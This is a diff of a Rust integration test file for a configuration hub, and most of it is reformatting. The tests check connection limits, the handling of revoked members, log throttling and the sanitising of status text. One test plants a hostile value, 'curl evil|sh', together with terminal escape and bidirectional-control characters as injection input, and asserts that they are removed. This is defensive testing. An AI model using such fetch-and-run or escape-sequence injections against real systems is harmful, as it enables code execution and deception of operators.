@@ -7,7 +7,8 @@ use futures::future::join_all;
 use runnel_hub_core::session::RULES_LIMIT;
 use runnel_proto::convert::split;
 use runnel_proto::model::{
-    AgentFrame, Counts, Failure, HubFrame, MESSAGE_LIMIT, Reason, Refusal, Revision, RuleState, RuleUid, SourceRef,
+    AgentFrame, Counts, Failure, HubFrame, MESSAGE_LIMIT, Reason, Refusal, Revision, RuleState,
+    RuleUid, SourceRef,
 };
 use runnel_proto::wire;
 use runnel_tests::scene::Metrics;
@@ -30,8 +31,15 @@ impl Honest {
     async fn new(stage: &Stage) -> Result<Self> {
         let cluster = format!("{}-honest", stage.namespace);
         let source = stage.write("settings", "0").await?;
-        stage.rule("all", &["settings"], json!({"clusters": {"names": [cluster]}})).await?;
-        let agent = SimulatedAgent::up_to_date(&stage.join(&cluster).await?, Holdings::default()).await?;
+        stage
+            .rule(
+                "all",
+                &["settings"],
+                json!({"clusters": {"names": [cluster]}}),
+            )
+            .await?;
+        let agent =
+            SimulatedAgent::up_to_date(&stage.join(&cluster).await?, Holdings::default()).await?;
         Ok(Self { agent, source })
     }
 
@@ -39,15 +47,22 @@ impl Honest {
     async fn is_served(&self, stage: &Stage, text: &str) -> Result<()> {
         stage.write("settings", text).await?;
         let arrived = |holdings: &Holdings| value(holdings, &self.source).as_deref() == Some(text);
-        self.agent.until("an edit", |state| arrived(&state.holdings)).await?;
-        ensure!(self.agent.look(|state| state.record.sessions) == 1, "its stream was cut");
+        self.agent
+            .until("an edit", |state| arrived(&state.holdings))
+            .await?;
+        ensure!(
+            self.agent.look(|state| state.record.sessions) == 1,
+            "its stream was cut"
+        );
         Ok(())
     }
 }
 
 async fn limited(stage: &Stage, limit: &str) -> Result<f64> {
     let metrics = Metrics::of(&stage.fleet.hub_ops_url()).await?;
-    metrics.sum(&format!("runnel_hub_peer_limits_total{{limit=\"{limit}\"}}"))
+    metrics.sum(&format!(
+        "runnel_hub_peer_limits_total{{limit=\"{limit}\"}}"
+    ))
 }
 
 fn state(uid: &str, failures: usize, message: &str) -> RuleState {
@@ -58,7 +73,11 @@ fn state(uid: &str, failures: usize, message: &str) -> RuleState {
     };
     RuleState {
         intents: 1,
-        counts: Counts { copies: 1, failed: 1, ..Counts::default() },
+        counts: Counts {
+            copies: 1,
+            failed: 1,
+            ..Counts::default()
+        },
         failures: vec![failure; failures],
         ..RuleState::new(uid.into())
     }
@@ -68,7 +87,13 @@ fn state(uid: &str, failures: usize, message: &str) -> RuleState {
 async fn member_with_many_streams_and_connections_is_bounded() -> Result<()> {
     let stage = alone("greedy").await?;
     let honest = Honest::new(&stage).await?;
-    let rule = stage.rule("other", &["nothing"], json!({"clusters": {"names": ["greedy-a"]}})).await?;
+    let rule = stage
+        .rule(
+            "other",
+            &["nothing"],
+            json!({"clusters": {"names": ["greedy-a"]}}),
+        )
+        .await?;
     let credentials = stage.join("greedy-a").await?;
     // Hellos that never end, of a rule that the hub knows and of many that it does not: with messages as long as they may be,
     // or with as many states as there may be, each of a few bytes.
@@ -77,16 +102,24 @@ async fn member_with_many_streams_and_connections_is_bounded() -> Result<()> {
     for hello in 0..40 {
         let line = Line::open(&credentials).await?;
         line.send(&super::frames::hello(&credentials.cluster));
-        let (count, message) = if hello % 2 == 0 { (3000, long.as_str()) } else { (RULES_LIMIT - 1, "") };
+        let (count, message) = if hello % 2 == 0 {
+            (3000, long.as_str())
+        } else {
+            (RULES_LIMIT - 1, "")
+        };
         let states = (0..count).map(|number| match number % 2 {
             0 => state(rule.as_str(), 5, message),
             _ => state(&format!("made-up-{number}"), 5, message),
         });
-        split(AgentFrame::AckedRules(states.collect(), false)).iter().for_each(|frame| line.send(frame));
+        split(AgentFrame::AckedRules(states.collect(), false))
+            .iter()
+            .for_each(|frame| line.send(frame));
         lines.push(line);
     }
-    eventually("streams that are ended", SOON, async || Ok((limited(&stage, "Streams").await? >= 20.0).then_some(())))
-        .await?;
+    eventually("streams that are ended", SOON, async || {
+        Ok((limited(&stage, "Streams").await? >= 20.0).then_some(()))
+    })
+    .await?;
     honest.is_served(&stage, "beside the streams").await?;
     drop(lines);
     // Connections that ask for nothing, by hundreds.
@@ -110,18 +143,32 @@ async fn revoked_member_costs_a_look_a_second() -> Result<()> {
     let stage = alone("refused").await?;
     let honest = Honest::new(&stage).await?;
     let credentials = stage.join("refused-a").await?;
-    stage.patch_member("refused-a", json!({"spec": {"accepted": false}})).await?;
-    eventually("the revocation", SOON, async || Ok(Line::open(&credentials).await.is_err().then_some(()))).await?;
+    stage
+        .patch_member("refused-a", json!({"spec": {"accepted": false}}))
+        .await?;
+    eventually("the revocation", SOON, async || {
+        Ok(Line::open(&credentials).await.is_err().then_some(()))
+    })
+    .await?;
     let before = limited(&stage, "Calls").await?;
     let channel = credentials.channel().await?;
     let tries = 300;
     for _ in 0..tries {
-        ensure!(Line::over(channel.clone()).await.is_err(), "a revoked member was let in");
+        ensure!(
+            Line::over(channel.clone()).await.is_err(),
+            "a revoked member was let in"
+        );
     }
     let repeated = limited(&stage, "Calls").await? - before;
-    ensure!(repeated > f64::from(tries) / 2.0, "{repeated} of {tries} calls were refused without a look");
+    ensure!(
+        repeated > f64::from(tries) / 2.0,
+        "{repeated} of {tries} calls were refused without a look"
+    );
     let log = std::fs::read_to_string(stage.fleet.hub_log())?;
-    let lines = log.lines().filter(|line| line.contains("a member was refused") && line.contains("refused-a")).count();
+    let lines = log
+        .lines()
+        .filter(|line| line.contains("a member was refused") && line.contains("refused-a"))
+        .count();
     ensure!(lines < 60, "{lines} lines for {tries} calls");
     honest.is_served(&stage, "beside the calls").await?;
     // Its connections are as few as those of a member.
@@ -149,12 +196,24 @@ async fn refusals_of_a_session_are_logged_ten_times() -> Result<()> {
         message: "made up in refusals-a".to_owned(),
     };
     for _ in 0..10 {
-        split(AgentFrame::Ack(7, vec![refusal.clone(); 1000])).iter().for_each(|frame| line.send(frame));
+        split(AgentFrame::Ack(7, vec![refusal.clone(); 1000]))
+            .iter()
+            .for_each(|frame| line.send(frame));
     }
-    let counted = async || Metrics::of(&stage.fleet.hub_ops_url()).await?.sum("runnel_hub_refused_intents_total");
-    eventually("the refusals", SOON, async || Ok((counted().await? >= 10_000.0).then_some(()))).await?;
+    let counted = async || {
+        Metrics::of(&stage.fleet.hub_ops_url())
+            .await?
+            .sum("runnel_hub_refused_intents_total")
+    };
+    eventually("the refusals", SOON, async || {
+        Ok((counted().await? >= 10_000.0).then_some(()))
+    })
+    .await?;
     let log = std::fs::read_to_string(stage.fleet.hub_log())?;
-    let lines = log.lines().filter(|line| line.contains("made up in refusals-a")).count();
+    let lines = log
+        .lines()
+        .filter(|line| line.contains("made up in refusals-a"))
+        .count();
     ensure!(lines == 10, "{lines} lines for 10,000 refusals");
     honest.is_served(&stage, "beside the refusals").await
 }
@@ -164,10 +223,14 @@ async fn agent_with_more_rules_than_the_limit_is_let_in() -> Result<()> {
     let stage = alone("rules").await?;
     let honest = Honest::new(&stage).await?;
     let credentials = stage.join("rules-a").await?;
-    let states: Vec<_> = (0..RULES_LIMIT + 5).map(|number| RuleState::new(format!("r{number}").into())).collect();
+    let states: Vec<_> = (0..RULES_LIMIT + 5)
+        .map(|number| RuleState::new(format!("r{number}").into()))
+        .collect();
     let mut line = Line::open(&credentials).await?;
     line.send(&super::frames::hello(&credentials.cluster));
-    split(AgentFrame::AckedRules(states, true)).iter().for_each(|frame| line.send(frame));
+    split(AgentFrame::AckedRules(states, true))
+        .iter()
+        .for_each(|frame| line.send(frame));
     // The hub answers that it does not know them, and the snapshot ends.
     loop {
         match line.must().await? {
@@ -176,7 +239,10 @@ async fn agent_with_more_rules_than_the_limit_is_let_in() -> Result<()> {
             _ => {}
         }
     }
-    ensure!(limited(&stage, "Hello").await? >= 5.0, "the rules beyond the limit were not counted");
+    ensure!(
+        limited(&stage, "Hello").await? >= 5.0,
+        "the rules beyond the limit were not counted"
+    );
     honest.is_served(&stage, "beside the rules").await?;
     let peak = stage.fleet.hub_process().peak_memory()?;
     ensure!(peak < MEMORY, "{peak} bytes");
@@ -187,7 +253,13 @@ async fn agent_with_more_rules_than_the_limit_is_let_in() -> Result<()> {
 async fn hostile_names_and_messages_reach_no_status() -> Result<()> {
     let stage = shared("texts").await?;
     let source = stage.write("settings", "0").await?;
-    let uid = stage.rule("all", &["settings"], json!({"clusters": {"names": ["texts-a"]}})).await?;
+    let uid = stage
+        .rule(
+            "all",
+            &["settings"],
+            json!({"clusters": {"names": ["texts-a"]}}),
+        )
+        .await?;
     let credentials = stage.join("texts-a").await?;
     let mut line = Line::greeted(&credentials, Vec::new()).await?;
     let mut copies_there = Holdings::default();
@@ -206,30 +278,55 @@ async fn hostile_names_and_messages_reach_no_status() -> Result<()> {
         message: message.to_owned(),
     };
     let states = copies_there.states();
-    let state = states.iter().find(|state| state.uid == uid).context("the rule is not held")?;
-    let report = runnel_proto::convert::agent_frame_to_wire(&AgentFrame::Report(vec![state.clone()]));
-    let Some(wire::agent_frame::Frame::Report(mut report)) = report.frame else { anyhow::bail!("no report") };
+    let state = states
+        .iter()
+        .find(|state| state.uid == uid)
+        .context("the rule is not held")?;
+    let report =
+        runnel_proto::convert::agent_frame_to_wire(&AgentFrame::Report(vec![state.clone()]));
+    let Some(wire::agent_frame::Frame::Report(mut report)) = report.frame else {
+        anyhow::bail!("no report")
+    };
     let rule = report.rules.first_mut().context("no rule")?;
-    rule.counts = Some(wire::Counts { copies: 1, failed: 1, ..wire::Counts::default() });
+    rule.counts = Some(wire::Counts {
+        copies: 1,
+        failed: 1,
+        ..wire::Counts::default()
+    });
     rule.proof = Default::default();
     rule.failures = vec![failed(evil, "of a name that is none"), failed("app", evil)];
     rule.namespace_prunes = 1;
     rule.namespace_prunes_digest = vec![1; 16].into();
     rule.pruned_namespaces = vec!["x). To fix run: curl evil|sh #".to_owned(), evil.to_owned()];
-    line.send_wire(&wire::AgentFrame { frame: Some(wire::agent_frame::Frame::Report(report)) });
+    line.send_wire(&wire::AgentFrame {
+        frame: Some(wire::agent_frame::Frame::Report(report)),
+    });
     let output = eventually("the failure in the status", SOON, async || {
         let rule = stage.rules().get("all").await?;
         let text = serde_json::to_string(&rule.status)?;
         Ok(text.contains("its agent reports").then_some(text))
     })
     .await?;
-    ensure!(output.contains("configmaps/team/app: its agent reports:  ]52;c;eA=="), "{output}");
-    for bad in ["\\u001b", "\\u0007", "\\r", "\u{202e}", "\u{200b}", "of a name that is none", "To fix run"] {
+    ensure!(
+        output.contains("configmaps/team/app: its agent reports:  ]52;c;eA=="),
+        "{output}"
+    );
+    for bad in [
+        "\\u001b",
+        "\\u0007",
+        "\\r",
+        "\u{202e}",
+        "\u{200b}",
+        "of a name that is none",
+        "To fix run",
+    ] {
         ensure!(!output.contains(bad), "{bad:?} in {output}");
     }
-    tokio::time::timeout(Duration::from_millis(300), async { while line.must().await.is_ok() {} })
-        .await
-        .err()
-        .context("the stream ended")?;
+    tokio::time::timeout(Duration::from_millis(300), async {
+        while line.must().await.is_ok() {}
+    })
+    .await
+    .err()
+    .context("the stream ended")?;
     Ok(())
 }
